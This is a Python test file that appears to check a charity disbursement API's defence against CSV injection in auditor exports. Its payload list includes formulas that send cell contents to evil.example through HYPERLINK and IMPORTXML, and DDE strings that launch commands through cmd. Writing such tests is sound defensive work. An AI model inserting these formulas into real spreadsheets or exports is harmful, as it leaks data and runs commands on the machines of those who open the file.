"""CSV injection: no text a charity chooses is ever a formula in an auditor's spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest

from api.spreadsheet import is_formula_like, safe_cell, safe_row
from tests.api.conftest import Api, ApiFactory, bearer, disbursement_body, new_key

# Each leading character of OWASP's rule, with the payloads seen in the wild.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"invoice")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\t",
    "\r",
    "\x00=1",
    # white space and invisible characters before the formula
    " =1+2",
    "   @SUM(A1)",
    "\u3000=1+2",  # ideographic space
    "\u00a0=1+2",  # no-break space
    "\u200b=1+2",  # zero-width space
    "\ufeff=1+2",  # byte order mark
    "\u202e=1+2",  # right-to-left override
    # full-width and small forms, as a Chinese IME types them
    '＝HYPERLINK("http://evil.example")',
    "＋1+2",
    "－1+2",
    "＠SUM(A1)",
    "﹦1+2",
    "﹢1+2",
    "﹣1+2",
    "﹫SUM(A1)",
    "\u3000＝1",
]

# Text that stays as it is: the trigger is not first, or the character only looks alike.
PLAIN = [
    "昆明新华书店",
    "textbooks, grade 3",
    "a=1+2",
    "1-2",
    "50% off",
    "Dr. Smith @ Kunming",
    "'quoted already",
    "\u2212 5 (minus sign)",  # U+2212 is not a hyphen-minus
    "",
    "   ",
    "\u200b",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_cell_gets_a_leading_quote_and_keeps_its_text(payload: str) -> None:
    assert is_formula_like(payload)
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("payload", PLAIN)
def test_plain_text_is_written_as_it_is(payload: str) -> None:
    assert not is_formula_like(payload)
    assert safe_cell(payload) == payload


def test_numbers_stay_numbers_and_only_text_is_neutralized() -> None:
    moment = datetime(2026, 11, 26, 10, 0, 0)
    row = safe_row([1_000, -5, 0, True, None, "-5", moment, "ok"])
    assert row == [1_000, -5, 0, True, None, "'-5", "2026-11-26T10:00:00", "ok"]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(row)
    assert buffer.getvalue() == "1000,-5,0,True,,'-5,2026-11-26T10:00:00,ok\n"


def _export(api: Api, charity_id: str) -> list[dict[str, str]]:
    auditor = bearer(api.services.keys.issue("auditor", "KPMG"))
    response = api.client.get(
        "/api/v1/exports/disbursements.csv", params={"charity_id": charity_id}, headers=auditor
    )
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


def test_no_payee_or_purpose_reaches_the_auditors_csv_as_a_formula(
    make_api: ApiFactory, database_url: str
) -> None:
    """Every payload goes through the real routes: refused at input, or neutralized in the CSV."""
    api = make_api(database_url)
    charity_id, key = api.register_charity()
    recorded: list[tuple[str, str]] = []
    for payload in FORMULAS + PLAIN:
        for field in ("payee", "purpose"):
            body = disbursement_body(charity_id, None, 100) | {field: payload}
            response = api.client.post("/api/v1/disbursements", json=body, headers=key | new_key())
            if response.status_code == 422:  # refused as input: nothing to export
                assert response.json()["field"] == field, response.text
                continue
            assert response.status_code == 201, response.text
            # The API keeps text NFKC-normalized and trimmed: the export shows what it kept.
            recorded.append((field, payload, response.json()[field]))
    rows = _export(api, charity_id)
    assert len(rows) == len(recorded)
    # Formulas the journal accepts as text (most of them) did reach the export route.
    assert sum(1 for _, payload, _ in recorded if payload in FORMULAS) >= 20
    for row, (field, payload, kept) in zip(rows, recorded, strict=True):
        cell = row[field]
        assert not is_formula_like(cell), (field, payload, cell)
        expected = "'" + kept if payload in FORMULAS else kept
        assert cell == expected
        assert int(row["amount"]) == 100  # amounts stay numbers
        assert row["charity_id"] == charity_id
